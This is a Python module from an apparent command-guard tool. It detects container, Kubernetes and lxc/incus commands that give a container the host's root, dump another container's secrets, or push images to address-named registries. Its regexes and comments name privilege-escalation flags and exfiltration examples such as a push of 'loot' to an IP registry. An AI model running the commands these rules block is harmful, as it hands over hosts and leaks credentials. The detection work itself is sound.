"""Whether a container engine is handed the host: bind mounts beyond the workspace,
devices, capabilities, unconfined security options, the host's namespaces; lxc/incus
privileged containers and host disks.
"""

from __future__ import annotations

import itertools
import re

from clawkeep.guards.command_guard._fx_url import metadata_host
from clawkeep.guards.command_guard._net_reach import egress, unvetted_source
from clawkeep.guards.command_guard._net_tables import SHELLS
from clawkeep.guards.command_guard._walk import Cmd, Walker, command_name
from clawkeep.guards.command_guard._word_types import UNKNOWN

__all__ = ["containers", "image_copy", "orchestrator", "system_containers"]


# Container options that hand the container the host: its root, devices, kernel or
# namespaces (the engine runs as root, so the container's root is the host's).
_HOST_OPTIONS = re.compile(
    r"--privileged(?!=false)|docker\.sock|--(pid|ipc|userns|uts|cgroupns)[ =]host\b"
    r"|--device(-cgroup-rule)?[ =]|--security-opt[ =]\S*unconfined"
    r"|--cap-add[ =](ALL|SYS_ADMIN|SYS_MODULE|SYS_PTRACE|SYS_RAWIO|DAC_READ_SEARCH"
    r"|DAC_OVERRIDE|BPF|PERFMON|SYS_BOOT)\b",
    re.I,
)


# The host's network namespace with the capability to change it: the container rewrites
# the host's firewall and routes (`--net=host --cap-add NET_ADMIN … iptables -F`).
_HOST_NET = re.compile(r"--net(work)?[ =]host\b", re.I)
_NET_CAPS = re.compile(r"--cap-add[ =](NET_ADMIN|NET_RAW)\b", re.I)


def _mount_sources(values: list[str]) -> list[str]:
    """Host paths bind-mounted into a container: `-v SRC:DST`, `--mount …source=SRC`."""
    sources: list[str] = []
    for index, value in enumerate(values):
        spec: str | None = None
        if value in ("-v", "--volume", "--mount") and index + 1 < len(values):
            spec = values[index + 1]
        elif value.startswith(("--volume=", "--mount=")):
            spec = value.split("=", 1)[1]
        elif value.startswith("-v") and len(value) > 2:
            spec = value[2:].removeprefix("=")  # -v/etc:/x, -v=/etc:/x
        if spec is None:
            continue
        if value.startswith("--mount"):
            found = re.search(r"(?:^|,)(?:source|src)=([^,]+)", spec)
            if found:
                sources.append(found.group(1))
        elif spec.startswith(("/", "~", ".")) or spec.split(":", 1)[0] in ("", "."):
            sources.append(spec.split(":", 1)[0] or "/")
        elif UNKNOWN in spec.split(":", 1)[0]:
            sources.append(UNKNOWN)  # -v "$SRC":/m: a host path known only at run time
    return sources


# Options of `docker exec` and `kubectl exec` that take a value.
_EXEC_VALUE = frozenset(
    {"-e", "--env", "--env-file", "-u", "--user", "-w", "--workdir", "--detach-keys"}
    | {"-c", "--container", "-n", "--namespace", "--context", "--kubeconfig", "--as"}
    | {"-f", "--filename", "--pod-running-timeout"}
)
# A shell script that prints the whole environment: `env`, `printenv`, `set`, `export -p`.
_DUMP_SCRIPT = re.compile(
    r"(^|[;&|(`]\s*)(env|printenv|set|export\s+-p|declare\s+-x)\s*($|[;&|)>`])"
    r"|/proc/[\w*]+/environ"
    # inline code that prints the whole environment: print(os.environ), process.env
    r"|\bos\.environ\s*(\)|\.(items|copy)\b)|\bprocess\.env\s*[),]|\bENV\.to_h\b",
    re.M,
)


def _exec_reads_env(cmd: Cmd, w: Walker) -> bool:
    """``docker exec C env``, ``kubectl exec P -- printenv``, ``… sh -c 'set'``: another
    container's environment (its database passwords and API keys) printed here."""
    values = cmd.values()
    at = next((i for i, v in enumerate(values) if v == "exec"), None)
    if at is None or any(v in ("pull", "push", "run") for v in values[:at]):
        return False
    rest, index = values[at + 1 :], 0
    while index < len(rest) and rest[index].startswith("-") and rest[index] != "--":
        index += 2 if rest[index] in _EXEC_VALUE else 1
    argv = rest[index + 1 :]  # past the container or pod
    if cmd.name in ("kubectl", "oc") and "--" in rest:
        argv = rest[rest.index("--") + 1 :]  # kubectl exec POD [options] -- CMD
    elif argv[:1] == ["--"]:
        argv = argv[1:]
    if not argv:
        return False
    program = command_name(argv[0])
    bare = [a for a in argv[1:] if not a.startswith("-")]
    dump = (program == "env" and not bare) or program == "printenv"
    c_mode = any(re.fullmatch(r"-[a-z]*c[a-z]*", a) for a in argv[1:-1])
    script = argv[-1] if program in SHELLS and c_mode else ""
    fed = " ".join(cmd.fed_texts()) if program in SHELLS and not c_mode else ""
    code = " ".join(argv[1:]) if program not in SHELLS else ""
    words = [u for arg in argv for u in arg.split() + re.findall(r"\w+://[^\s'\"`)]+", arg)]
    if any(metadata_host(word) for word in words):
        # credential_read: the pod's metadata service hands out its node's cloud keys
        w.flag("credential_read", f"{cmd.name} exec asks a cloud metadata service")
        return True
    if dump or _DUMP_SCRIPT.search(f"{script}\n{fed}\n{code}"):
        # credential_read: the container was started with its secrets in its environment
        w.flag("credential_read", f"{cmd.name} exec prints a container's environment")
        return True
    return False


def containers(cmd: Cmd, w: Walker) -> None:
    if _exec_reads_env(cmd, w):
        return
    values = cmd.values()
    joined = " ".join(values)
    beyond = [
        src
        for src in _mount_sources(values)
        if w.place(src).kind not in ("workspace", "workspace_root", "temp")
    ]
    host_net = _HOST_NET.search(joined) and _NET_CAPS.search(joined)
    if _HOST_OPTIONS.search(joined) or beyond or host_net:
        # privilege: the engine runs as root; the container gets the host's files as root,
        # its devices, its kernel's capabilities or its namespaces
        w.flag("privilege", f"{cmd.name} gives a container the host's root, devices or daemon")
        return
    verbs = [v for v in cmd.values() if not v.startswith("-")]
    pushes = verbs[:1] == ["push"] or verbs[:2] in (["image", "push"], ["buildx", "build"])
    pushes |= verbs[:2] == ["compose", "push"]
    pushes = pushes and (verbs[:2] != ["buildx", "build"] or "--push" in values)
    if pushes and (host := _unauthenticated_registry(values)) is not None:
        # exfiltration: the image (the workspace built into it) goes to a registry the
        # line names by address, which takes a push without the owner's login
        w.flag("exfiltration", f"{cmd.name} pushes an image to the registry at {host}")
        return
    if verbs and verbs[0] in ("pull", "push", "login", "search"):
        egress(cmd, w)


# A registry named by an IP address, or by a host with a port, that is not this machine:
# `docker push 10.10.14.3:5000/loot`, `registry.evil.example:443/x`. Named services
# (docker.io, ghcr.io, <account>.dkr.ecr…) take a push only with the owner's login.
_ADDRESSED_REGISTRY = re.compile(
    r"^(\d{1,3}(\.\d{1,3}){3}(:\d+)?|\[[0-9a-f:]+\](:\d+)?|[\w.-]+:\d+)/", re.I
)
_LOOPBACK_REGISTRY = re.compile(r"^(localhost|127\.[\d.]+|\[::1\])(:\d+)?/", re.I)


def _unauthenticated_registry(values: list[str]) -> str | None:
    for value in values:
        ref = value.split("=", 1)[1] if value.startswith(("--tag=", "-t=")) else value
        if _ADDRESSED_REGISTRY.match(ref) and not _LOOPBACK_REGISTRY.match(ref):
            return ref.split("/", 1)[0]
    return None


# System-container managers: settings that give a container the host's root or its disks.
_HOST_ROOT_SETTING = re.compile(
    r"security\.privileged[= ]+(true|1|yes)\b|raw\.(lxc|idmap|apparmor|seccomp)\b"
    r"|security\.syscalls\.intercept\.(mount|mknod|setxattr)",
    re.I,
)


def system_containers(cmd: Cmd, w: Walker) -> None:
    """``lxc``/``incus``: a privileged container, raw settings, or a host folder beyond the
    workspace handed to it as a disk (``disk source=/``)."""
    sources = [v.split("=", 1)[1] for v in cmd.values() if v.startswith("source=")]
    beyond = [s for s in sources if w.place(s).kind not in ("workspace", "workspace_root", "temp")]
    if _HOST_ROOT_SETTING.search(" ".join(cmd.values())) or beyond:
        # privilege: root in such a container is root on the host (or holds its files)
        w.flag("privilege", f"{cmd.name} gives a container the host's root or its files")
        return
    verbs = [v for v in cmd.values() if not v.startswith("-")]
    if verbs and verbs[0] in ("launch", "init", "image", "remote"):
        egress(cmd, w)


# A pod spec handed the node: a privileged container, the node's namespaces or a
# hostPath volume (in --overrides JSON/YAML, or `kubectl run --privileged`).
_POD_HOST = re.compile(
    r"""["']?(privileged|hostPID|hostNetwork|hostIPC|allowPrivilegeEscalation)["']?\s*:\s*true"""
    r"""|["']?hostPath["']?\s*:|--privileged(?!=false)""",
    re.I,
)
# Roles that hand the whole cluster (or a namespace's secrets and pods) to a subject.
_ADMIN_ROLE = re.compile(r"^--(cluster)?role=(cluster-admin|admin|system:masters)$")


_KUBE_VALUE = frozenset(
    {"-n", "--namespace", "--context", "--kubeconfig", "-s", "--server", "--cluster"}
    | {"--user", "--as", "--as-group", "--token", "--request-timeout"}
)


def _pairs(values: list[str]) -> list[str]:
    """``--opt value`` spelled as ``--opt=value``, for options given either way."""
    return [f"{a}={b}" for a, b in itertools.pairwise(values)]


def orchestrator(cmd: Cmd, w: Walker) -> None:
    """kubectl/oc: a pod handed its node, a binding to an admin role, a debug pod on a
    node (it mounts the node's root at /host), or the privileged security constraint."""
    if _exec_reads_env(cmd, w):
        return
    values = cmd.values()
    verbs = [
        v
        for i, v in enumerate(values)
        if not v.startswith("-") and (i == 0 or values[i - 1] not in _KUBE_VALUE)
    ]
    fed = [r.body for r in cmd.redirects if r.op in ("<<", "<<-", "<<<") and r.body]
    fed += [cmd.stdin.text] if cmd.stdin is not None and cmd.stdin.text else []
    joined = " ".join(values + fed)  # a spec given inline, or on stdin (`apply -f - <<EOF`)
    spec_verb = verbs[:1] in (["run"], ["create"], ["apply"], ["patch"], ["debug"], ["replace"])
    if spec_verb and any(
        v.startswith("--overrides") and UNKNOWN in v for v in values + _pairs(values)
    ):
        # privilege: a pod spec known only at run time may hand the pod its node
        w.flag("privilege", f"{cmd.name} starts a pod from a spec known only at run time")
        return
    if spec_verb and _POD_HOST.search(joined):
        # privilege: the pod runs as root on the node with its namespaces or its disk
        w.flag("privilege", f"{cmd.name} starts a pod handed its node's root or namespaces")
        return
    sources = [b for a, b in itertools.pairwise(values) if a in ("-f", "--filename", "-k")]
    sources += [v.split("=", 1)[1] for v in values if v.startswith(("--filename=", "-f="))]
    remote = next((s for s in sources if "://" in s and unvetted_source(s)), None)
    if spec_verb and remote is not None:
        # download_exec: the manifest fetched from there starts the workloads it names
        w.flag("download_exec", f"{cmd.name} applies a manifest from {remote}")
        return
    if verbs[:1] == ["debug"] and any(v.startswith(("node/", "nodes/")) for v in verbs):
        # privilege: a node debug pod shares the node's namespaces and mounts its root
        w.flag("privilege", f"{cmd.name} debug starts a pod in a node's namespaces")
        return
    binds = verbs[:2] in (["create", "clusterrolebinding"], ["create", "rolebinding"])
    pairs = _pairs(values)
    if binds and any(_ADMIN_ROLE.match(v) for v in values + pairs):
        # privilege: a subject (often the pod's own service account) gets the cluster
        w.flag("privilege", f"{cmd.name} binds a subject to an admin role")
        return
    if verbs[:4] == ["adm", "policy", "add-scc-to-user", "privileged"]:
        w.flag("privilege", f"{cmd.name} lets a user run privileged pods")


# Registry tools that copy an image to the reference their last operand names.
IMAGE_COPY = {
    "skopeo": frozenset({"copy", "sync"}),
    "crane": frozenset({"push", "copy", "cp", "append", "mutate"}),
    "buildah": frozenset({"push"}),
    "regctl": frozenset({"image", "artifact"}),
}


def image_copy(cmd: Cmd, w: Walker) -> None:
    """skopeo/crane/buildah/regctl copying an image to a registry named by address."""
    operands = [v for v in cmd.values() if not v.startswith("-")]
    if not operands or operands[0] not in IMAGE_COPY[cmd.name] or len(operands) < 2:
        return
    dest = operands[-1].removeprefix("docker://")
    if (host := _unauthenticated_registry([dest])) is not None:
        # exfiltration: the image goes to a registry that takes a push without a login
        w.flag("exfiltration", f"{cmd.name} copies an image to the registry at {host}")
